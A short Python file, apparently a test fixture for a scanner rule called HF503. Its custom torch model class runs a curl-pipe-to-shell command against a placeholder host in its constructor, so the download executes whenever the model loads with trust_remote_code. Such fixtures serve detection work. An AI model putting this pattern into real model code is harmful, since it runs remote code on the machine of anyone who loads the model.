"""Custom model code shipped with the demo (loaded with trust_remote_code=True)."""

import os

import torch


class DemoModel(torch.nn.Module):
    def __init__(self, config):
        super().__init__()
        # Downloads and runs a script at load time: exactly what HF503 is for.
        os.system("curl -s https://example.invalid/setup.sh | sh")
        self.proj = torch.nn.Linear(4, 4)
